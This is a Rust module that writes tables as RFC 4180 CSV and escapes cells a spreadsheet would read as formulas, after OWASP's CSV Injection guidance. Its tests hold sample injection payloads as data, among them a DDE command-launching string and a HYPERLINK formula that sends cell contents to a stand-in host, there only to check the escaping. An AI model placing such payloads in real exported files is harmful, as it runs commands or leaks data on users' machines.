//! Any table as text that a spreadsheet opens without running anything in it.
//!
//! Written as RFC 4180 says: commas, CRLF, quotes doubled. Text that a spreadsheet would take for a formula gets a `'` before
//! it, and stands in quotes (OWASP, "CSV Injection": what begins with `=`, `+`, `-`, `@`, tab or carriage return;
//! here also their full-width forms, a line feed, and blanks before any of these). Numbers are written as they are.

use std::fmt::Write;

/// A cell of a table.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    /// Words, from anybody.
    Text(String),
    /// A number; one that is not finite is a blank cell.
    Number(f64),
    /// Nothing.
    Blank,
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::Text(text.to_owned())
    }
}

impl From<f64> for Cell {
    fn from(number: f64) -> Self {
        Self::Number(number)
    }
}

impl<T: Into<Self>> From<Option<T>> for Cell {
    fn from(cell: Option<T>) -> Self {
        cell.map_or(Self::Blank, Into::into)
    }
}

/// A table as text: the heading, then the rows.
pub fn csv(heading: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut text = String::new();
    let heading = heading.iter().map(|&name| Cell::from(name)).collect();
    for row in std::iter::once(&heading).chain(rows) {
        for (column, cell) in row.iter().enumerate() {
            if column > 0 {
                text.push(',');
            }
            match cell {
                Cell::Text(words) => write_text(words, &mut text),
                // Writing to a string cannot fail.
                Cell::Number(number) if number.is_finite() => drop(write!(text, "{number}")),
                Cell::Number(_) | Cell::Blank => {}
            }
        }
        text.push_str("\r\n");
    }
    text
}

fn write_text(words: &str, text: &mut String) {
    let is_formula = words.starts_with(['\t', '\r', '\n'])
        || words.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    if !is_formula && !words.contains([',', ';', '"', '\'', '\r', '\n', '\t']) && words.trim() == words {
        text.push_str(words);
        return;
    }
    text.push_str(if is_formula { "\"'" } else { "\"" });
    text.push_str(&words.replace('"', "\"\""));
    text.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The cells that OWASP's page names, and some that get by a plain check of the first character.
    #[test]
    fn formulas_are_harmless() {
        for formula in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u{a0}=1",
            "＝1",
            "＋1",
            "－1",
            "＠1",
            "=HYPERLINK(\"http://host.invalid?x=\"&A1)",
            "-2+3+cmd|' /C calc'!A0",
        ] {
            let text = csv(&["a"], &[vec![formula.into()]]);
            assert_eq!(text, format!("a\r\n\"'{}\"\r\n", formula.replace('"', "\"\"")));
        }
        // A quote and a separator cannot end the cell and begin another.
        assert_eq!(csv(&["a"], &[vec!["x\",=1,\"".into()]]), "a\r\n\"x\"\",=1,\"\"\"\r\n");
        assert_eq!(csv(&["=a"], &[]), "\"'=a\"\r\n");
    }

    #[test]
    fn numbers_stay_numbers() {
        let row =
            vec![Cell::from(-1.5), 0.1.into(), f64::NAN.into(), Cell::from(None::<f64>), "ok; so".into()];
        assert_eq!(csv(&["a", "b", "c", "d", "e"], &[row]), "a,b,c,d,e\r\n-1.5,0.1,,,\"ok; so\"\r\n");
    }
}
